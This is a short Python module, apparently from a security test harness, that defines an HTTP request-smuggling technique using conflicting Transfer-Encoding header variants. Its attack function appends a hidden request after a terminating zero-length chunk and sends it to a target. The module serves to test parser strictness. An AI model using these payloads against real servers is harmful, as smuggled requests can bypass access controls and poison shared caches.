"""Codings are a list, and parsers differ on which of it counts."""

from typing import Any

from space_evaluate import inside
from space_evaluate.inside import Case
from space_evaluate.technique import Technique

TECHNIQUE = Technique(
    tries="Send two transfer codings, in one field or two, with chunked first, last or twice.",
    claim="E3",
    defences=("parser strictness: HTTP/1.1; chunked and lengths",),
    stopped_by=("transfer_encoding", "both"),
    variants={
        "twice": ["Transfer-Encoding: chunked", "Transfer-Encoding: chunked"],
        "gzip first": ["Transfer-Encoding: gzip, chunked"],
        "chunked first": ["Transfer-Encoding: chunked, identity"],
        "identity": ["Transfer-Encoding: identity", "Content-Length: 4"],
        "a list": ["Transfer-Encoding: chunked, chunked"],
    },
)


def attack(case: Case, what: Any) -> None:
    names = case.ground
    hidden = inside.request(names.hidden, f"/smuggled/{case.token}")
    fields = what
    body = b"0\r\n\r\n" + hidden
    case.tls(names.open, inside.request(names.open, "/", fields, method="POST", body=body))
